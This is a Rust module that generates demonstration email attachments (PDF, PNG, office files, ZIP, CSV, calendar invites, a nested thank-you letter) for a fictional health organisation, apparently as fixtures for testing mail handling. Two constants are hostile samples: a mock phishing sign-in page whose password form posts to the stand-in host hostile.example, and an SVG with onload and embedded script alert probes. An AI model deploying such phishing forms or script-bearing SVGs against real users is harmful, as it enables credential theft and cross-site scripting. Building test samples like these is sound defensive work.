//! Makes small attachments that open in ordinary programs: PDF, PNG, office files, text, calendar, messages.
//! Each is computed from its name; nothing is shipped.

mod office;
mod zip;

use super::clock::{icalendar, rfc5322, working_day};
use office::{sheet, slides, word};
use time::{Date, Time};
use zip::{crc32, zip};

/// What is attached.
#[derive(Clone, Debug)]
pub(super) struct Attachment {
    kind: Kind,
    /// File name as people see it.
    pub(super) name: String,
}

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Kind {
    Pdf,
    Png,
    /// A picture that the HTML text shows by `cid:`.
    Inline,
    Word,
    Sheet,
    Slides,
    Zip,
    Text,
    Calendar,
    /// A web page that asks for a password, as phishing does.
    Page,
    /// A drawing with a script in it.
    Drawing,
    /// A whole message.
    Message,
}

impl Attachment {
    /// Reads `pdf Load test.pdf`.
    pub(super) fn parse(text: &str) -> Option<Self> {
        let (kind, name) = text.split_once(' ')?;
        let kind = match kind {
            "pdf" => Kind::Pdf,
            "png" => Kind::Png,
            "inline" => Kind::Inline,
            "docx" => Kind::Word,
            "xlsx" => Kind::Sheet,
            "pptx" => Kind::Slides,
            "zip" => Kind::Zip,
            "html" => Kind::Page,
            "svg" => Kind::Drawing,
            "eml" => Kind::Message,
            "txt" => Kind::Text,
            "ics" => Kind::Calendar,
            _ => return None,
        };
        Some(Self { kind, name: name.to_owned() })
    }

    /// The same under another name.
    pub(super) fn named(&self, name: String) -> Self {
        Self { kind: self.kind, name }
    }

    /// Its media type.
    pub(super) fn media_type(&self) -> &'static str {
        match self.kind {
            Kind::Pdf => "application/pdf",
            Kind::Png | Kind::Inline => "image/png",
            Kind::Word => "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
            Kind::Sheet => "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
            Kind::Slides => "application/vnd.openxmlformats-officedocument.presentationml.presentation",
            Kind::Zip => "application/zip",
            Kind::Page => "text/html; charset=utf-8",
            Kind::Drawing => "image/svg+xml",
            Kind::Message => "message/rfc822",
            Kind::Text => "text/csv; charset=utf-8",
            Kind::Calendar => "text/calendar; charset=utf-8; method=REQUEST",
        }
    }

    /// Whether the text shows it rather than carries it; its Content-ID is then the name.
    pub(super) fn is_inline(&self) -> bool {
        self.kind == Kind::Inline
    }

    /// Whether it is a message itself.
    pub(super) fn is_message(&self) -> bool {
        self.kind == Kind::Message
    }

    /// Its octets, for a letter of this date about this subject.
    pub(super) fn octets(&self, date: Date, subject: &str) -> Vec<u8> {
        match self.kind {
            Kind::Pdf => pdf(&self.name, subject),
            Kind::Png => png(480, 320, &self.name),
            Kind::Inline => png(120, 40, &self.name),
            Kind::Word => word(subject),
            Kind::Sheet => sheet(&rows(&self.name)),
            Kind::Slides => slides(subject),
            Kind::Zip => zip(&[("Counted.csv", &csv(&self.name)), ("Page.pdf", &pdf("Receipt", subject))]),
            Kind::Page => PAGE.into(),
            Kind::Drawing => DRAWING.into(),
            Kind::Message => message(date, &self.name),
            Kind::Text => csv(&self.name),
            Kind::Calendar => calendar(date, subject, &self.name),
        }
    }
}

/// One page with two lines of text (PDF 1.4, ISO 32000-1 section 7.5).
fn pdf(title: &str, subject: &str) -> Vec<u8> {
    let escape = |text: &str| -> String {
        text.chars()
            .filter(|c| matches!(c, ' '..='~'))
            .flat_map(|c| match c {
                '(' | ')' | '\\' => vec!['\\', c],
                _ => vec![c],
            })
            .collect()
    };
    let page = format!(
        "BT /F1 20 Tf 60 760 Td ({}) Tj 0 -32 Td /F1 12 Tf ({}) Tj 0 -24 Td (Northmoor Health. Made for a demonstration.) Tj ET",
        escape(title),
        escape(subject)
    );
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R \
         /Resources << /Font << /F1 5 0 R >> >> >>"
            .to_owned(),
        format!("<< /Length {} >>\nstream\n{page}\nendstream", page.len()),
        "<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>".to_owned(),
    ];
    let mut file = "%PDF-1.4\n".to_owned();
    let mut table = "0000000000 65535 f \n".to_owned();
    for (number, object) in objects.iter().enumerate() {
        table.push_str(&format!("{:010} 00000 n \n", file.len()));
        file.push_str(&format!("{} 0 obj\n{object}\nendobj\n", number + 1));
    }
    let start = file.len();
    let count = objects.len() + 1;
    file.push_str(&format!(
        "xref\n0 {count}\n{table}trailer\n<< /Size {count} /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n"
    ));
    file.into_bytes()
}

/// Bands of colour, by palette, so that the uncompressed data stay small (PNG, ISO/IEC 15948).
fn png(width: u32, height: u32, name: &str) -> Vec<u8> {
    let hue = name.bytes().map(u32::from).sum::<u32>();
    // Four colours at two bits a pixel.
    let palette: Vec<u8> =
        (0..4).flat_map(|i| [40 + (hue * 3 + i * 50) % 200, 90 + i * 40, 150 + i * 30].map(|c| c as u8)).collect();
    let row = width.div_ceil(4);
    let mut pixels = Vec::new();
    for y in 0..height {
        pixels.push(0);
        for x in 0..row {
            let band = (x * 4 + y + hue) / 40 % 4;
            pixels.push((band * 0b0101_0101) as u8);
        }
    }
    let mut header = Vec::new();
    header.extend(width.to_be_bytes());
    header.extend(height.to_be_bytes());
    header.extend([2, 3, 0, 0, 0]);
    let mut file = b"\x89PNG\r\n\x1a\n".to_vec();
    for (kind, data) in [(b"IHDR", header), (b"PLTE", palette), (b"IDAT", zlib(&pixels)), (b"IEND", Vec::new())] {
        file.extend((data.len() as u32).to_be_bytes());
        let from = file.len();
        file.extend(kind);
        file.extend(data);
        let sum = crc32(file.get(from..).unwrap_or_default());
        file.extend(sum.to_be_bytes());
    }
    file
}

/// Stored blocks, no compression (RFC 1950, RFC 1951 section 3.2.4).
fn zlib(data: &[u8]) -> Vec<u8> {
    let mut stream = vec![0x78, 0x01];
    let mut blocks = data.chunks(0xffff).peekable();
    while let Some(block) = blocks.next() {
        let size = block.len() as u16;
        stream.push(u8::from(blocks.peek().is_none()));
        stream.extend(size.to_le_bytes());
        stream.extend((!size).to_le_bytes());
        stream.extend(block);
    }
    let (mut a, mut b) = (1_u32, 0_u32);
    for octet in data {
        a = (a + u32::from(*octet)) % 65_521;
        b = (b + a) % 65_521;
    }
    stream.extend((b << 16 | a).to_be_bytes());
    stream
}

/// What is counted: item, place, number.
fn rows(name: &str) -> Vec<[String; 3]> {
    const ITEMS: [&str; 5] = ["Rollator small", "Rollator large", "Hoist sling M", "Hoist sling L", "Walking stick"];
    const PLACES: [&str; 4] = ["Ashgrove ward", "Old gym", "Therapy stores", "Day room"];
    let counted = ITEMS.iter().zip(PLACES.iter().cycle()).enumerate();
    let row = |(number, (item, place)): (usize, (&&str, &&str))| {
        [(*item).to_owned(), (*place).to_owned(), ((name.len() * 7 + number * 13) % 31).to_string()]
    };
    std::iter::once(["Item", "Place", "Counted"].map(str::to_owned)).chain(counted.map(row)).collect()
}

fn csv(name: &str) -> Vec<u8> {
    rows(name).iter().map(|row| row.join(",") + "\r\n").collect::<String>().into_bytes()
}

const PAGE: &str = "<!doctype html><title>Sign in</title><script>alert(\"page\")</script>\n\
    <form action=\"https://hostile.example/in\"><input type=password><button>Sign in</button></form>\n";
const DRAWING: &str = "<svg xmlns=\"http://www.w3.org/2000/svg\" width=\"120\" height=\"80\" onload=\"alert(1)\">\
    <script>alert(2)</script><rect width=\"120\" height=\"80\" fill=\"#00508a\"/></svg>\n";

/// A letter of thanks from outside, with a file of its own (RFC 5322, RFC 2046).
fn message(date: Date, name: &str) -> Vec<u8> {
    let day = working_day(date, -1);
    let written = day.with_time(Time::from_hms(10, 20, 5).unwrap_or(Time::MIDNIGHT)).assume_utc();
    let subject: String = name.trim_end_matches(".eml").chars().filter(char::is_ascii).collect();
    format!(
        "Date: {}\r\nFrom: Marion Rowntree <m.rowntree@lettersbypost.example>\r\n\
         To: Northmoor Health <enquiries@northmoor.example>\r\nSubject: {subject}\r\n\
         Message-ID: <{}.rowntree@lettersbypost.example>\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/mixed; boundary=\"=_letter\"\r\n\r\n--=_letter\r\n\
         Content-Type: text/plain; charset=utf-8\r\n\r\n\
         To whom it may concern,\r\n\r\nI wrote last week to complain about the waiting. I still think that it was\r\n\
         long. But then your people sat with my husband until I came, and one of\r\nthem found his glasses, \
         which had been lost since 2019.\r\n\r\nPlease pass on our thanks.\r\n\r\nMarion Rowntree\r\n\r\n\
         --=_letter\r\nContent-Type: text/csv; name=\"Waiting times.csv\"\r\n\
         Content-Disposition: attachment; filename=\"Waiting times.csv\"\r\n\r\n\
         Day,Minutes\r\nMonday,95\r\nTuesday,40\r\n\r\n--=_letter--\r\n",
        rfc5322(written),
        day.to_julian_day(),
    )
    .into_bytes()
}

/// An invitation two working days later (RFC 5545, RFC 5546 section 3.2.2).
fn calendar(date: Date, subject: &str, name: &str) -> Vec<u8> {
    let day = working_day(date, 2);
    let stamp = icalendar(date, 8);
    let (from, until) = (icalendar(day, 13), icalendar(day, 14));
    format!(
        "BEGIN:VCALENDAR\r\nVERSION:2.0\r\nPRODID:-//Northmoor Health//Demo//EN\r\nMETHOD:REQUEST\r\nBEGIN:VEVENT\r\n\
         UID:{stamp}-{}@northmoor.example\r\nDTSTAMP:{stamp}\r\nDTSTART:{from}\r\nDTEND:{until}\r\n\
         SUMMARY:{subject}\r\nLOCATION:Old gym\\, Ashgrove\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n",
        name.len()
    )
    .into_bytes()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn checksums_are_those_of_the_standards() {
        assert_eq!(crc32(b"123456789"), 0xcbf4_3926);
        assert!(zlib(b"Wikipedia").ends_with(&0x11e6_0398_u32.to_be_bytes()));
    }

    #[test]
    fn every_kind_begins_and_ends_as_its_format_does() {
        let date = Date::from_ordinal_date(2026, 321).expect("a day");
        let check = |text: &str, begin: &[u8], end: &[u8]| {
            let octets = Attachment::parse(text).expect(text).octets(date, "Load (test) & <more>");
            assert!(octets.starts_with(begin) && octets.ends_with(end), "{text}: {} octets", octets.len());
        };
        check("pdf a.pdf", b"%PDF-1.4\n", b"%%EOF\n");
        check("png a.png", b"\x89PNG\r\n", b"IEND\xae\x42\x60\x82");
        check("docx a.docx", b"PK\x03\x04", b"\0\0");
        check("ics a.ics", b"BEGIN:VCALENDAR\r\n", b"END:VCALENDAR\r\n");
        check("xlsx a.xlsx", b"PK\x03\x04", b"\0\0");
        check("pptx a.pptx", b"PK\x03\x04", b"\0\0");
        check("zip a.zip", b"PK\x03\x04", b"\0\0");
        check("eml a.eml", b"Date: ", b"--=_letter--\r\n");
        check("html a.html", b"<!doctype html>", b"</form>\n");
        check("svg a.svg", b"<svg", b"</svg>\n");
        check("txt a.csv", b"Item,", b"\r\n");
    }
}
